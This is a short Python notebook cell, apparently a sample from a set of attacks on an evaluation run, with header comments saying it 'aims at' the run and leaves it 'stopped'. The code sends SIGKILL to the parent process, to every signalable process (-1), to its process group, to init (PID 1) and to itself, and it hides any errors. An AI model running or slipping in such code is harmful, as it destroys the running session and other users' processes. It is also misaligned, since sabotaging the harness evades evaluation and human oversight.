# The kernel is killed, with everything else that can be.
# aims at: the run
# earns: 1.1
# status: stopped
# %% 1.1
# %%
import os
import signal

for pid in (os.getppid(), -1, -os.getpgrp(), 1, os.getpid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
# %% 1.2
